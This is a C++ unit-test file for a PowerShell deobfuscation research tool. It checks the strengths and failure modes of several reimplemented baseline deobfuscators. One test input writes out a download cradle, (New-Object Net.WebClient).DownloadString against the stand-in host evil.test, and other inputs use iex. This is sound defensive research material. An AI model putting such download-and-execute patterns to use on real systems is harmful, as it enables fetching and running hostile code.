@@ -1,0 +1,152 @@
+// Deeper per-baseline behavior tests: each reimplemented tool must exhibit
+// the published strengths *and* the published failure modes the paper's
+// comparative results rest on.
+
+#include <gtest/gtest.h>
+
+#include "baselines/baseline.h"
+#include "core/recovery.h"
+#include "pslang/alias_table.h"
+#include "psast/parser.h"
+
+namespace ideobf {
+namespace {
+
+bool contains_ci(std::string_view haystack, std::string_view needle) {
+  return ps::to_lower(haystack).find(ps::to_lower(needle)) != std::string::npos;
+}
+
+// ------------------------------------------------------------- PSDecode
+
+TEST(PSDecodeTool, StripsTicksEvenInsideStrings) {
+  // The regex imprecision the paper calls out: tick removal is global and
+  // corrupts backtick escapes inside double-quoted strings.
+  auto tool = make_psdecode();
+  const std::string out = tool->run("Write-Host \"a`tb\"").script;
+  EXPECT_EQ(out.find('`'), std::string::npos);
+  EXPECT_NE(out, "Write-Host \"a`tb\"");
+}
+
+TEST(PSDecodeTool, PeelsNestedLiteralLayers) {
+  auto tool = make_psdecode();
+  const std::string inner = "Write-Host hi";
+  const std::string l1 = "iex '" + inner + "'";
+  std::string quoted_l1;
+  for (char c : l1) {
+    if (c == '\'') quoted_l1 += "''";
+    else quoted_l1.push_back(c);
+  }
+  const std::string l2 = "iex '" + quoted_l1 + "'";
+  EXPECT_EQ(tool->run(l2).script, inner);
+}
+
+TEST(PSDecodeTool, CannotFoldConcat) {
+  auto tool = make_psdecode();
+  const std::string src = "Write-Host ('a'+'b')";
+  EXPECT_EQ(tool->run(src).script, src);
+}
+
+// ------------------------------------------------------------ PowerDrive
+
+TEST(PowerDriveTool, FoldsChainedConcat) {
+  auto tool = make_powerdrive();
+  EXPECT_EQ(tool->run("iex ('Write-'+'Ho'+'st hi')").script, "Write-Host hi");
+}
+
+TEST(PowerDriveTool, FlatteningBreaksMultilineScripts) {
+  auto tool = make_powerdrive();
+  const std::string out = tool->run("$a = 1\n$b = 2").script;
+  EXPECT_FALSE(ps::is_valid_syntax(out)) << out;
+}
+
+// ----------------------------------------------------------- PowerDecode
+
+TEST(PowerDecodeTool, FoldsLiteralReplaceCalls) {
+  auto tool = make_powerdecode();
+  const std::string out =
+      tool->run("Write-Host ('hXllo'.Replace('X','e'))").script;
+  EXPECT_TRUE(contains_ci(out, "'hello'")) << out;
+}
+
+TEST(PowerDecodeTool, EvaluatesVariableFreeFormatLayers) {
+  auto tool = make_powerdecode();
+  const std::string out =
+      tool->run("iex (\"{1}{0}\" -f 'Host hi', 'Write-')").script;
+  EXPECT_EQ(out, "Write-Host hi");
+}
+
+TEST(PowerDecodeTool, RefusesVariableLayers) {
+  auto tool = make_powerdecode();
+  const std::string src = "$p = 'Write-Host hi'\niex ($p)";
+  EXPECT_EQ(tool->run(src).script, src);
+}
+
+TEST(PowerDecodeTool, DecodesEncodedCommand) {
+  // powershell -enc with a UTF-16LE payload ("Write-Host hi").
+  auto tool = make_powerdecode();
+  const std::string out =
+      tool->run("powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=").script;
+  EXPECT_EQ(out, "Write-Host hi");
+}
+
+// -------------------------------------------------------------- Li et al.
+
+TEST(LiTool, ReplacesAllOccurrencesAtOnce) {
+  // Context-free replacement: identical pieces are replaced everywhere,
+  // even when one occurrence lives inside a string literal.
+  auto tool = make_li_etal();
+  const std::string src =
+      "('a'+'b')\nWrite-Host \"the piece ('a'+'b') is logged\"";
+  const std::string out = tool->run(src).script;
+  EXPECT_TRUE(contains_ci(out, "the piece 'ab' is logged")) << out;
+}
+
+TEST(LiTool, PaysSimulatedTimeForUnrelatedCommands) {
+  auto tool = make_li_etal();
+  const BaselineResult r = tool->run("Start-Sleep 6 | Out-Null");
+  EXPECT_GE(r.simulated_seconds, 6.0);
+}
+
+TEST(LiTool, ReturnsInputOnUnparsableScripts) {
+  auto tool = make_li_etal();
+  const std::string bad = "if ( 'broken";
+  EXPECT_EQ(tool->run(bad).script, bad);
+}
+
+// ------------------------------------------------------- ours vs. corpus
+
+TEST(OursTool, ValueLiteralQuotingIsSafe) {
+  // Recovery writes back single-quoted literals; embedded quotes must be
+  // escaped so the output stays valid.
+  auto ours = make_invoke_deobfuscation();
+  const std::string out = ours->run("Write-Host ('it''s'+' fine')").script;
+  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
+  EXPECT_TRUE(contains_ci(out, "it''s fine")) << out;
+}
+
+TEST(OursTool, ExpandableStringInterpolationRecovered) {
+  auto ours = make_invoke_deobfuscation();
+  const std::string src =
+      "$host_name = 'evil.test'\n"
+      "(New-Object Net.WebClient).DownloadString(\"http://$host_name/x\")";
+  const std::string out = ours->run(src).script;
+  EXPECT_TRUE(contains_ci(out, "http://evil.test/x")) << out;
+}
+
+TEST(OursTool, KeepsUntraceableInterpolation) {
+  auto ours = make_invoke_deobfuscation();
+  const std::string src = "1,2 | ForEach-Object { Write-Host \"item $_\" }";
+  const std::string out = ours->run(src).script;
+  EXPECT_TRUE(contains_ci(out, "$_")) << out;
+}
+
+TEST(RecoveryUnit, ExpandableStringsSubstituted) {
+  RecoveryOptions opts;
+  RecoveryStats stats;
+  const std::string out = recovery_pass(
+      "$p = 'path'\nWrite-Host \"C:\\$p\\x.ps1\"", opts, &stats);
+  EXPECT_TRUE(contains_ci(out, "'C:\\path\\x.ps1'")) << out;
+}
+
+}  // namespace
+}  // namespace ideobf
